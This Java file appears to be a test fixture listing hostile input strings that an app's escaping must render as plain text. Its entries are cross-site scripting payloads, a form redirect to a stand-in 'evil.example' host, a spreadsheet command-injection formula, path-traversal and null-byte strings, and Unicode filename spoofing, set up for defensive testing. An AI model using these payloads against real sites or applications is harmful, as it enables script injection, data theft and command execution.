package dev.inlet.console;

import java.util.List;

/**
 * Text that must stay text: each would run a script, or mark that it did, where it is not escaped.
 */
final class Hostile {
  private Hostile() {}

  static final List<String> TEXTS =
      List.of(
          "<script>window.hostile=1</script>",
          "\"><script>window.hostile=1</script>",
          "'><img src=x onerror=window.hostile=1>",
          "<svg/onload=window.hostile=1>",
          "\" autofocus onfocus=window.hostile=1 x=\"",
          "' onmouseover='window.hostile=1",
          "javascript:window.hostile=1",
          "</title><script>window.hostile=1</script>",
          "</textarea><script>window.hostile=1</script>",
          "</pre></table></main><script>window.hostile=1</script>",
          "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
          "<a href=javascript:window.hostile=1>x</a>",
          "${window.hostile=1}{{constructor.constructor('window.hostile=1')()}}",
          "@`<script>window.hostile=1</script>`",
          "<math><mtext><style><img src=x onerror=window.hostile=1></style></mtext></math>",
          "<base href='//evil.example/'><form action=//evil.example><button>x",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-2+3",
          "@SUM(1+1)",
          "\t=1+1",
          "..",
          "../../console/logout",
          "%2e%2e%2f%00",
          "\u202Egnp.exe",
          "\uFF1Cscript\uFF1Ewindow.hostile=1\uFF1C/script\uFF1E");
}
